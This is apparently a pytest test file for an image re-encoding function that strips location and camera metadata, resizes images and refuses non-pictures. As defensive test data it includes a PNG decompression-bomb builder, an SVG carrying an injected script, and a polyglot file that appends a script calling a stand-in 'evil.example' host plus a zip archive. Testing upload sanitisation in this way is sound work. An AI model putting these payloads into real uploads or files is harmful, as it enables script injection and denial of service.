"""Pictures from outside come out small, whole and without a memory."""

import io
import struct
import zlib

import pytest
from PIL import Image

from accounts.files.images import MAX_PIXELS, Bounds, reencode
from accounts.refusals import InvalidInput
from tests.factories.files import archive, picture_bytes

BOX = Bounds(400, 300)


def opened(content: bytes) -> Image.Image:
    return Image.open(io.BytesIO(content))


def code_of(content: bytes) -> str:
    with pytest.raises(InvalidInput) as refusal:
        reencode(content, BOX, field="picture")
    assert refusal.value.field == "picture"
    return refusal.value.code


def photo_with_a_place() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Teléfono de Rosa"
    exif[0x0112] = 6  # lies on its side
    exif.get_ifd(0x8825).update({1: "S", 2: (34.0, 36.0, 13.0), 3: "W", 4: (58.0, 22.0, 53.0)})
    return picture_bytes(1200, 600, exif=exif, comment=b"calle 13")


def test_where_and_with_what_a_photo_was_taken_is_gone():
    sent = photo_with_a_place()
    assert opened(sent).getexif().get_ifd(0x8825)  # it was there

    (written,) = reencode(sent, BOX)

    assert dict(opened(written.content).getexif()) == {}
    for secret in (b"Rosa", b"calle 13", b"Exif", b"EXIF", b"GPS", b"ICCP", b"XMP "):
        assert secret not in written.content


def test_a_photo_that_lies_on_its_side_is_set_upright_before_the_note_of_it_goes():
    (written,) = reencode(photo_with_a_place(), BOX)
    assert written.height > written.width


def test_a_picture_fits_its_box_and_is_never_blown_up():
    large, small = reencode(picture_bytes(4000, 2000), BOX)[0], reencode(picture_bytes(80, 40), BOX)[0]
    assert (large.width, large.height) == (400, 200)
    assert (small.width, small.height) == (80, 40)
    assert opened(large.content).format == "WEBP"


@pytest.mark.parametrize("sides", [(4000, 500), (500, 4000), (320, 160), (30, 1)])
def test_a_filled_box_has_its_shape_whatever_came(sides):
    (written,) = reencode(picture_bytes(*sides), Bounds(640, 320, is_filled=True))
    assert written.width <= 640 and abs(written.width / written.height - 2) <= 1


def test_a_logo_keeps_what_is_see_through():
    drawn = Image.new("RGBA", (40, 40), (255, 0, 0, 0))
    sent = io.BytesIO()
    drawn.save(sent, "PNG")
    (written,) = reencode(sent.getvalue(), BOX)
    assert opened(written.content).mode == "RGBA"


@pytest.mark.parametrize("mode", ["CMYK", "L", "RGB"])
def test_colours_of_print_and_of_grey_become_those_of_screens(mode):
    (written,) = reencode(picture_bytes(mode=mode), BOX)
    assert opened(written.content).mode == "RGB"


def test_of_a_moving_picture_the_first_frame_stays():
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    sent = io.BytesIO()
    frames[0].save(sent, "WEBP", save_all=True, append_images=frames[1:])
    (written,) = reencode(sent.getvalue(), BOX)
    assert getattr(opened(written.content), "n_frames", 1) == 1


def png_that_says_it_is(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(1_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def test_a_bomb_is_refused_before_it_goes_off():
    assert code_of(png_that_says_it_is(60_000, 60_000)) == "picture_too_large"
    assert code_of(png_that_says_it_is(5_001, MAX_PIXELS["PNG"] // 5_000)) == "picture_too_large"


@pytest.mark.parametrize(
    "content",
    [
        b"", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", b"<html>",
        b"\x89PNG\r\n\x1a\n",
        picture_bytes()[:200], picture_bytes(kind="GIF"), picture_bytes(kind="TIFF"), picture_bytes(kind="BMP"),
        picture_bytes(kind="ICO"), png_that_says_it_is(2_000, 2_000), archive({"a": "b"}), b"%!PS-Adobe-3.0 EPSF-3.0",
    ],
    ids=["empty", "svg", "html", "only a head", "torn", "gif", "tiff", "bmp", "ico", "less than it says", "zip", "eps"],
)  # fmt: skip
def test_what_is_no_picture_of_the_three_kinds_is_refused_with_one_sentence(content):
    assert code_of(content) == "not_a_picture"


def test_of_a_file_that_is_two_things_only_the_picture_goes_on():
    script = b"<script>fetch('//evil.example')</script>"
    page = archive({"index.html": script})
    (written,) = reencode(picture_bytes() + script + page, BOX)
    assert b"script" not in written.content and b"PK\x03\x04" not in written.content
